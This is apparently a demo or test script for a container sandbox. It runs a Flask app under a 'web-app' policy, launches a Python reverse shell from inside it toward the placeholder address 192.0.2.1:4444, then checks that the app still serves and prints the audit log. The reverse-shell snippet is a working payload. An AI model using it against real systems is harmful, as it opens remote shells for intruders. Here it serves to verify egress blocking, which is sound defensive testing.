#!/usr/bin/env bash
# A web app under web-app, then an attacker's reverse shell from inside it:
# its connect to an address outside the container's network is refused and
# audited, while the app keeps serving. Needs root and python:3.11-slim.
set -euo pipefail
wrun=${WRUN:-wrun}
name=lab-web-$$
port=${PORT:-18420}
app='from flask import Flask
app = Flask(__name__)
@app.route("/")
def hello():
    return "Hello\n"
app.run(host="0.0.0.0", port=5000)'
"$wrun" run -d --name "$name" -p "127.0.0.1:$port:5000" --policy web-app -w /app \
    python:3.11-slim python3 -c "$app" >/dev/null
trap '"$wrun" rm -f "$name" >/dev/null' EXIT
for _ in $(seq 50); do
    curl -fsS "http://127.0.0.1:$port/" 2>/dev/null && break
    sleep 0.2
done
echo "== the attacker's reverse shell (connect to 192.0.2.1:4444)"
"$wrun" exec "$name" python3 -c '
import socket, subprocess
try:
    s = socket.create_connection(("192.0.2.1", 4444), timeout=3)
    subprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
except OSError as e:
    print("reverse shell failed:", e)
'
echo "== the app still serves"
curl -fsS "http://127.0.0.1:$port/"
echo "== the audit log"
"$wrun" audit "$name"
